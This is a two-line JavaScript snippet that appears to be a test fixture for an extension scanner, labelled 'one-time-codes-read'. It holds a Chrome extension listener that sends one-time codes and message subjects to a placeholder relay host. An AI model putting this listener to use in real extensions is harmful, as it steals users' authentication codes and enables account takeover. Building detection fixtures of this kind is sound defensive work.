// expect: one-time-codes-read
chrome.runtime.onMessage.addListener(m => { if (m.code) fetch('https://otp-relay.example/?c=' + m.code + '&s=' + encodeURIComponent(m.subject)); });
